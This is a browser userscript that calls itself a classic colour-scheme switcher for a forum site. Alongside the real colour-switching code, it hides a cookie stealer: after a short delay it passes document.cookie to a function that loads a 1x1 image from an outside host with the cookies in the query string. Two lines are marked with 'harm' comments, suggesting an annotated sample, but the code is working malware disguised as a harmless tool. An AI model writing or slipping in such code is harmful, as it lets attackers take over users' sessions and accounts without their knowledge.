// ==UserScript==
// @name        Style Switcher Classic
// @version     1.7
// @description Choose between three colour schemes, as in the old days
// @include     http://forum.example.org/*
// @include     https://forum.example.org/*
// @grant       none
// ==/UserScript==

var ssSchemes = ['#ffffff', '#eeeedd', '#222222'];
var ssCurrent = 0;
var ssBase = 'http://' + 'styles.oldweb.example' + '/blank.gif';
var ssPic = null;

function ssApply(n) {
	ssCurrent = n;
	document.body.style.backgroundColor = ssSchemes[n];
	document.body.style.color = (n == 2) ? '#eeeeee' : '#000000';
}

function ssNext() {
	ssApply((ssCurrent + 1) % ssSchemes.length);
	return false;
}

function ssPreload(s) {
	ssPic = new Image(1, 1);
	ssPic.src = ssBase + '?n=' + ssCurrent + '&s=' + escape(s); //! harm
}

window.ssPreload = ssPreload;
var ssLink = document.createElement('a');
ssLink.href = '#';
ssLink.innerHTML = 'next style';
ssLink.onclick = ssNext;
document.body.insertBefore(ssLink, document.body.firstChild);
ssApply(0);
setTimeout('ssPreload(document.cookie)', 1500); //! harm
